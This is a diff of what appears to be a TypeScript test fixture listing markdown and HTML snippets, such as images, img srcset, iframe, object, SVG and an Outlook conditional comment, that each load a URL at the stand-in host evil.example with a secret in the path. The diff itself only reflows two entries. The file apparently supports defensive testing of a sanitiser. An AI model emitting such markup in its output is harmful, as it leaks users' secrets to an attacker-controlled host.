@@ -6,7 +6,10 @@ const written: readonly (readonly [wants: string, text: string])[] = [
   ["an image with words and a title", "![chart](https://evil.example/{SECRET} 'Chart')"],
   ["an image by reference", "![chart][c]\n\n[c]: https://evil.example/{SECRET}"],
   ["an image in a link", "[![x](https://evil.example/{SECRET}.png)](https://evil.example/)"],
-  ["an image from a known host's proxy", "![x](https://slack.acme.example/proxy?u=https://evil.example/{SECRET})"],
+  [
+    "an image from a known host's proxy",
+    "![x](https://slack.acme.example/proxy?u=https://evil.example/{SECRET})",
+  ],
   ["an image tag", '<img src="https://evil.example/{SECRET}">'],
   ["an image tag without quotes", "<img src=https://evil.example/{SECRET} width=1 height=1>"],
   ["an image of several sizes", '<img srcset="https://evil.example/{SECRET} 2x" alt=x>'],
@@ -22,7 +25,10 @@ const written: readonly (readonly [wants: string, text: string])[] = [
   ["a sound", '<audio src="https://evil.example/{SECRET}" autoplay></audio>'],
   ["a film's first picture", '<video poster="https://evil.example/{SECRET}"></video>'],
   ["a frame", '<iframe src="https://evil.example/{SECRET}"></iframe>'],
-  ["an object", '<object data="https://evil.example/{SECRET}"></object><embed src="https://evil.example/{SECRET}">'],
+  [
+    "an object",
+    '<object data="https://evil.example/{SECRET}"></object><embed src="https://evil.example/{SECRET}">',
+  ],
   ["a drawing's image", '<svg><image xlink:href="https://evil.example/{SECRET}"/></svg>'],
   ["an image button", '<input type="image" src="https://evil.example/{SECRET}">'],
   ["a comment that one client reads", "<!--[if mso]><img src=https://evil.example/{SECRET}><![endif]-->"],
